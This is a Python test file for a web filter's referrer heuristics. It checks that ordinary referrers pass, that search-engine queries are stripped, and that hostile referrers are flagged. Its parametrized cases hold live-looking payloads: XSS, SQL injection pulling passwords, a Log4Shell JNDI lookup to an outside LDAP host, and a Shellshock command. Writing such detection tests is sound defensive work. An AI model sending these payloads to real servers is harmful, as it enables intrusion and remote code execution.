from __future__ import annotations

from collections.abc import Iterable

import pytest

from rules.heuristics.benign import referrers
from rules.heuristics.entries import PatternField
from rules.heuristics.evidence import Sign, grouped_evidence, verdict_of
from rules.heuristics.patterns import load_packs
from rules.heuristics.search_pages import referrer_text

SHIPPED = load_packs(())


def verdict(field: PatternField, text: str) -> str:
    infos = [SHIPPED.info(pattern) for pattern in SHIPPED.match_field(field, text)]
    return verdict_of(
        grouped_evidence(Sign(i.id, i.version, i.weight, i.group, i.reason) for i in infos if not i.shadow)
    )


def flagged(field: PatternField, texts: Iterable[str]) -> dict[str, tuple[str, tuple[str, ...]]]:
    found = {text: (verdict(field, text), SHIPPED.match_field(field, text)) for text in texts}
    return {text: one for text, one in found.items() if one[0] != "allow"}


def test_no_referrer_of_people_is_flagged() -> None:
    texts = referrers.texts()
    assert len(texts) >= 1_000
    assert flagged("referrer", texts) == {}


@pytest.mark.parametrize(
    "referrer",
    [
        "https://example.com/?q=<script>alert(1)</script>",
        "https://example.com/?id=1'+or+1=1--",
        "https://example.com/?id=-1+union+all+select+null,null",
        "https://google.evil.example/?id=1'+union+select+password+from+users",
        "https://www.google.com/search?q=${jndi:ldap://198.51.100.7/a}",
        "https://www.google.com/search?q=%24%7Bjndi:ldap://198.51.100.7/a}",
        "() { :;}; /bin/sh -c id",
        "http://semalt.com/project_crawl.php",
    ],
)
def test_referrers_that_attack_or_advertise_stay_flagged(referrer: str) -> None:
    assert verdict("referrer", referrer) in {"throttle", "block"}


@pytest.mark.parametrize(
    ("referrer", "seen"),
    [
        ("https://duckduckgo.com/?q=union+select", "https://duckduckgo.com/"),
        ("https://www.google.co.uk/search?q=a#b", "https://www.google.co.uk/search"),
        ("https://google.evil.example/?q=A+b", "https://google.evil.example/?q=a b"),
        ("https://shop.example/?q=A+b", "https://shop.example/?q=a b"),
    ],
)
def test_only_search_engines_lose_their_query(referrer: str, seen: str) -> None:
    assert referrer_text(referrer) == seen
